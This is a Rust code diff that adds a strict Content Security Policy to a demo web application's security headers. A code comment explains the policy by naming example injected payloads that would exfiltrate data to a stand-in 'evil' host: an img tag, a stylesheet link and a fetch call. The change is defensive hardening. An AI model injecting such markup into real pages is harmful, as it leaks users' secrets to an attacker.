@@ -34,6 +34,7 @@ use axum::http::HeaderValue;
 use axum::Router;
 use palisade::auth::AuthConfig;
 use palisade::client::{RequestScheme, TrustedProxyLayer};
+use palisade::headers::{ContentSecurityPolicy, Directive, Source};
 use palisade::keys::{KeyError, KeyRing};
 use palisade::remember::RememberMe;
 use palisade::session::SessionConfigError;
@@ -172,11 +173,31 @@ async fn build(config: &DemoConfig) -> Result<(Router, Option<JoinHandle<()>>), 
     let scheme = if config.tls.is_on() { RequestScheme::Https } else { RequestScheme::Http };
     let stack = Stack::from_sessions(sessions)
         .auth(auth)
-        .security_headers(|headers| headers.header(CACHE_CONTROL, HeaderValue::from_static("no-store")))
+        .security_headers(|headers| {
+            headers
+                .content_security_policy(content_security_policy())
+                .header(CACHE_CONTROL, HeaderValue::from_static("no-store"))
+        })
         .trusted_proxies(config.trusted_proxies.clone().connection_scheme(scheme));
     let stack = if config.tls.is_on() { stack.https_redirect(tls::https_redirect(config)?) } else { stack };
     let app = stack.build()?.wrap(routes::router(state));
     Ok((app, sweeper))
+}
+
+/// The demo's policy: Palisade's strict one with `default-src 'none'`, so
+/// every kind of resource the pages do not use (fonts, frames, media,
+/// workers, manifests) is refused, and each one they do use is allowed
+/// from this origin only: an injected `<img src=https://evil/?secret>`,
+/// `<link rel=stylesheet href=https://evil/>` or `fetch("https://evil/")`
+/// exfiltrates nothing. Scripts still need the per-response nonce
+/// (`strict-dynamic` lets those scripts load others). The stack adds
+/// `report-uri /csp-report`.
+fn content_security_policy() -> ContentSecurityPolicy {
+    ContentSecurityPolicy::strict()
+        .with(Directive::DefaultSrc, [Source::None])
+        .with(Directive::StyleSrc, [Source::SelfOrigin])
+        .with(Directive::ImgSrc, [Source::SelfOrigin])
+        .with(Directive::ConnectSrc, [Source::SelfOrigin])
 }
 
 /// Runs the demo on `config.addr` until Ctrl-C (or SIGTERM), then lets the
